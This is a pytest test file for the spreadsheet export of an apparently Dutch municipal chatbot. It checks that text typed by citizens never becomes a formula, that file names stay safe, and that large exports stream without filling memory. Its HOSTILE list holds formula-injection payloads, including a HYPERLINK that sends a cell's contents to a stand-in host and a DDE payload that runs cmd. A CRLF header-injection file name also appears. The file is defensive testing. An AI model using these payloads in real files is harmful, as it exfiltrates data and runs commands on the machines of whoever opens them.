"""Files for a spreadsheet: nothing typed by a citizen runs, and size costs no memory."""

import csv
import io
import tracemalloc
import zipfile
from datetime import date, datetime, timezone
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from bot.conversations.model import Conversation
from bot.database import now
from bot.review import export
from bot.review.export import Table

HOSTILE = [
    '=HYPERLINK("http://kwaad.example/?"&A1,"klik")',
    "+31612345678",
    "-1+1|cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def as_csv(table):
    file = io.BytesIO()
    export.write_csv(table, file)
    return file.getvalue()


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def as_xlsx(table):
    file = io.BytesIO()
    export.write_xlsx(table, file)
    return zipfile.ZipFile(file)


def cells(book, sheet=1):
    """Type, text and style of each cell, by row."""
    root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    assert not list(root.iter(f"{SHEET}f")), "a formula"
    return [
        [
            (cell.get("t", "n"), "".join(cell.itertext()), int(cell.get("s", "0")))
            for cell in row.iter(f"{SHEET}c")
        ]
        for row in root.iter(f"{SHEET}row")
    ]


def test_a_csv_opens_in_dutch_excel():
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=timezone.utc)
    table = Table(
        "Gesprekken",
        ["Vraag", "Aantal", "Aandeel", "Dag", "Moment", "Mens", "Leeg"],
        [['Zeg "één; twee"\nen drie', 1200, 0.125, date(2026, 7, 2), moment, True, None]],
        [("Periode", "1 juli 2026")],
    )
    data = as_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [
        ["Periode", "1 juli 2026"],
        [],
        ["Vraag", "Aantal", "Aandeel", "Dag", "Moment", "Mens", "Leeg"],
        ['Zeg "één; twee"\nen drie', "1200", "0,125", "02-07-2026", "02-07-2026 00:30", "ja", ""],
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_that_a_citizen_typed_stays_text(text):
    table = Table(text, [text], [[text]], [(text, text)])
    rows = read_csv(as_csv(table))
    assert {cell[0] for row in rows for cell in row} == {"'"}
    book = as_xlsx(table)
    for row in cells(book):
        assert {kind for kind, _, _ in row} == {"inlineStr"}
    styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    formats = styles.find(f"{SHEET}cellXfs")
    assert formats[cells(book)[-1][0][2]].get("quotePrefix") == "1"


@given(st.text(max_size=60))
def test_no_text_at_all_becomes_a_formula_or_breaks_the_file(text):
    rows = read_csv(as_csv(Table("t", ["kop"], [[text]])))
    assert not (rows[1:] and rows[1] and rows[1][0][:1] in tuple("=+-@\t\r\n"))
    ((kind, _, _),) = cells(as_xlsx(Table("t", ["kop"], [[text or "x"]])))[1] or [("s", "", 0)]
    assert kind in ("inlineStr", "s")


def test_a_negative_number_is_a_number():
    assert read_csv(as_csv(Table("t", ["kop"], [[-3]])))[1] == ["-3"]
    assert cells(as_xlsx(Table("t", ["kop"], [[-3]])))[1] == [("n", "-3", 0)]


def test_a_text_longer_than_a_cell_is_cut_off():
    long = "=" + "a" * 40_000
    assert len(read_csv(as_csv(Table("t", ["kop"], [[long]])))[1][0]) == export.MOST_CHARACTERS
    assert len(cells(as_xlsx(Table("t", ["kop"], [[long]])))[1][0][1]) == export.MOST_CHARACTERS


def test_more_rows_than_a_sheet_holds_go_on_on_the_next(monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 4)
    book = as_xlsx(Table("t", ["kop"], [[n] for n in range(5)]))
    found = [[row[0][1] for row in cells(book, sheet)] for sheet in (1, 2)]
    assert found == [["kop", "0", "1", "2"], ["kop", "3", "4"]]


def test_the_name_of_a_file_cannot_break_a_header():
    table = Table('"; x=\r\nSet-Cookie: a=b /../ Één', [], [])
    name = export.file_name(table, "csv", date(2026, 11, 22))
    assert name == "startwijzer-x-set-cookie-a-b-n-2026-11-22.csv"


def test_a_file_that_fails_half_way_says_so():
    def rows():
        yield [1]
        raise RuntimeError("half-way")

    for write in (export.write_csv, export.write_xlsx):
        with pytest.raises(RuntimeError, match="half-way"):
            write(Table("t", ["kop"], rows()), io.BytesIO())


@pytest.mark.parametrize(
    ("kind", "ending"), [("database", "csv"), ("postgres", "csv"), ("database", "xlsx")]
)
def test_100_000_rows_from_the_database_are_never_in_memory_together(
    request, tmp_path, kind, ending
):
    any_database = request.getfixturevalue(kind)
    total = 100_000
    with any_database.session() as session:
        moment = now()
        session.execute(
            sa.insert(Conversation),
            [
                {
                    "id": f"gesprek-{n}",
                    "channel": "web",
                    "page": f"={n}" + "a" * 200,
                    "created_at": moment,
                    "last_message_at": moment,
                }
                for n in range(total)
            ],
        )
    with any_database.session() as session, (tmp_path / "file").open("w+b") as file:
        query = sa.select(Conversation.id, Conversation.page, Conversation.created_at)
        tracemalloc.start()
        table = Table("t", ["Gesprek", "Pagina", "Begin"], export.stream(session, query))
        export.FORMATS[ending][1](table, file)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        file.seek(0)
        if ending == "csv":
            assert sum(1 for _ in file) == total + 1
        else:
            with zipfile.ZipFile(file).open("xl/worksheets/sheet1.xml") as sheet:
                text = sheet.read()
            assert text.count(b"<row ") == total + 1
    # The texts alone are over 20 MB, and as Python objects much more.
    assert peak < 8 * 1024 * 1024, peak
